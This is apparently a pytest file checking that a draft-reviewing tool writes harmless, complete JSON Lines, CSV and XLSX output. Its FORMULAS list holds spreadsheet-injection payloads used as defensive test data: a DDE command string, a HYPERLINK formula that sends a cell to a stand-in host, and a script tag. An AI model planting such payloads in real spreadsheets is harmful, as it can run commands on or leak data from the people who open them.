"""What is written is harmless and whole: JSON Lines for tools, CSV and XLSX for people."""

import csv
import io
import json
import re
import sys
import zipfile
from pathlib import Path
from typing import Any

import jsonschema
import openpyxl
import pytest
import python_calamine
from typer.testing import CliRunner, Result

from reviewer.cli.app import app_for
from reviewer.report.schema import schema
from reviewer.report.sheet import LONGEST, shown
from reviewer.rubric import Rubric

app = app_for(["batch", "schema"])
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "Hi;=1+1",
    "Hi\t@SUM(1)",
]


def batch(*arguments: object) -> Result:
    return CliRunner().invoke(app, ["batch", *map(str, arguments), "--jobs", "1"])


def written(tmp_path: Path, rows: list[dict[str, Any]], name: str, *more: str) -> Path:
    source, out = tmp_path / "in.jsonl", tmp_path / name
    source.write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    done = batch(source, "--output", out, *more)
    assert done.exit_code in {0, 1}, done.exception
    return out


def read_csv(file: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(file.read_bytes().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_formula_reaches_a_spreadsheet(tmp_path: Path, text: str) -> None:
    row = {"id": text, "draft": text, "subject": text, "to": text, "context": {"company": text, "role": text}}
    (cells,) = read_csv(written(tmp_path, [row], "out.csv", "--rewrite"))
    for cell in cells.values():
        assert not re.search(r"(?:\A|[;\t])[=+\-@\t\r\n＝]", cell), cell
    book = openpyxl.load_workbook(written(tmp_path, [row], "out.xlsx", "--rewrite"))
    made = [cell for line in book.active.iter_rows() for cell in line if cell.value is not None]
    assert {cell.data_type for cell in made} <= {"s", "n"}
    assert b"<f>" not in zipfile.ZipFile(tmp_path / "out.xlsx").read("xl/worksheets/sheet1.xml")
    assert str(made[-1].value).strip() == text.strip()


def test_a_face_at_the_start_of_a_line_is_no_formula(tmp_path: Path) -> None:
    (cells,) = read_csv(written(tmp_path, [{"draft": "Hi Ana ;-)"}], "out.csv"))
    assert cells["draft"] == "Hi Ana ;-)"


def test_a_row_of_a_sheet_is_what_a_coach_sorts_by(
    tmp_path: Path, corpus: list[dict[str, Any]], rubric: Rubric
) -> None:
    rows = [corpus[2], {"id": "x", "draft": "Hi", "context": {"role": "R" * 3000}}]
    sheet = read_csv(written(tmp_path, rows, "out.csv", "--rewrite"))
    lines = written(tmp_path, rows, "out.jsonl", "--rewrite").read_text(encoding="utf-8").splitlines()
    done = json.loads(lines[0])
    assert (sheet[0]["id"], sheet[0]["verdict"], sheet[0]["score"]) == ("c-003", done["verdict"], str(done["score"]))
    for criterion in rubric.criteria:
        assert sheet[0][criterion.title] == str(done["criteria"][criterion.id]["score"])
    assert all(finding["message"] in sheet[0]["to mend"] for finding in done["findings"])
    assert sheet[0]["rewritten"] == done["rewrite"]["text"] and sheet[0]["draft"] == corpus[2]["draft"]
    assert (sheet[1]["id"], sheet[1]["score"]) == ("x", "") and "at most 2000 characters" in sheet[1]["error"]
    assert json.loads(lines[1])["error"]["reason"] == sheet[1]["error"]


def test_a_workbook_can_be_filtered_and_is_read_by_other_libraries(tmp_path: Path) -> None:
    out = written(tmp_path, [{"id": "a", "draft": "Hi Ana,\r\nthanks _x0041_"}, {"id": "b", "draft": "Hi"}], "out.xlsx")
    sheet = openpyxl.load_workbook(out).active
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("B2", "A1:S3")
    rows = python_calamine.CalamineWorkbook.from_path(out).get_sheet_by_index(0).to_python()
    assert rows[1][rows[0].index("draft")] == "Hi Ana,\nthanks _x0041_"
    assert [row[0] for row in rows] == ["id", "a", "b"] and isinstance(rows[1][7], float)


@pytest.mark.parametrize("letter", ["x", "👩", "e\u0301"])
@pytest.mark.parametrize("length", [LONGEST, LONGEST + 1, 3 * LONGEST])
def test_a_cell_that_is_too_long_is_cut_where_it_is_seen(letter: str, length: int) -> None:
    text = letter * (length // len(letter))
    units = len(text.encode("utf-16-le")) // 2
    cell = shown(text)
    assert len(cell.encode("utf-16-le")) // 2 <= LONGEST
    assert (cell == text) is (units <= LONGEST)
    assert cell == text or cell.endswith(f"(cut here: {len(text):,} characters, all of them in the JSON Lines)")
    assert set(cell.split(" […]")[0]) <= set(letter)


def test_a_draft_of_any_length_and_any_characters_is_in_every_output(tmp_path: Path) -> None:
    strange = "Hi\x00 \x0b\x1b[31m \ud800 \ufffe <script>alert(1)</script> &amp; ]]> \u202e"
    rows = [{"id": "long", "draft": "Thank you. " * 4000}, {"id": "strange\x07", "draft": strange}]
    lines = written(tmp_path, rows, "out.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["id"] for line in lines] == ["long", "strange\x07"]
    for name in ("out.csv", "out.xlsx"):
        out = written(tmp_path, rows, name)
        if name == "out.csv":
            drafts = [row["draft"] for row in read_csv(out)]
        else:
            table = python_calamine.CalamineWorkbook.from_path(out).get_sheet_by_index(0).to_python()
            drafts = [row[table[0].index("draft")] for row in table[1:]]
        assert "cut here: 44,000 characters" in drafts[0]
        assert drafts[1].startswith("Hi\ufffd \ufffd\ufffd[31m \ufffd \ufffd <script>alert(1)</script> &amp; ]]>")


def test_a_surrogate_that_a_row_has_stays_in_the_json(tmp_path: Path) -> None:
    out = written(tmp_path, [{"id": "a\ud800", "draft": "Hi"}], "out.jsonl")
    assert json.loads(out.read_bytes())["id"] == "a\ud800"


def test_more_rows_than_a_sheet_holds_go_on_in_another(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("reviewer.batch.outputs._Workbook._ROWS", 3)
    book = openpyxl.load_workbook(written(tmp_path, [{"draft": "Hi"}] * 5, "out.xlsx"))
    assert [[row[0] for row in sheet.values] for sheet in book] == [["id", "1", "2"], ["id", "3", "4"], ["id", "5"]]


NAMES = ("Priya", "Raman", "Northwind", "Jordan", "Ellis", "555-0142", "priya@northwind.example")
TELLING = {
    "id": "7",
    "to": "Priya Raman",
    "subject": "Jordan Ellis – thank you",
    "draft": "Hi Pria,\n\nThank you for your time at Northwind. I need an answer by Friday, write to "
    "priya@northwind.example or call 555-0142 1234.\n\nJordan Ellis\n555-0142",
    "context": {"interviewers": ["Priya Raman"], "company": "Northwind Labs", "role": "Data Engineer"},
}


def test_redact_hides_names_addresses_and_numbers_in_every_output(tmp_path: Path) -> None:
    rows: list[dict[str, Any]] = [TELLING, {**TELLING, "id": "8", "context": {"interviewed_at": "with Priya Raman"}}]
    for name in ("out.jsonl", "out.csv"):
        plain = written(tmp_path, rows, name, "--rewrite").read_text(encoding="utf-8")
        hidden = written(tmp_path, rows, name, "--rewrite", "--redact").read_text(encoding="utf-8")
        for word in NAMES:
            assert word in plain or name == "out.jsonl", word
            assert word not in hidden, word
    first = json.loads(written(tmp_path, rows, "out.jsonl", "--redact").read_text(encoding="utf-8").splitlines()[0])
    jsonschema.validate(first, schema())


def test_other_outputs_need_no_library_and_a_workbook_names_its_own(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    source = tmp_path / "in.jsonl"
    source.write_text('{"draft": "Hi"}')
    done = batch(source, "--output", tmp_path / "out.xlsx")
    assert "pip install python-calamine openpyxl" in str(done.exception)
    assert batch(source, "--output", tmp_path / "out.csv").exit_code == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.jsonl", "out.csv"]
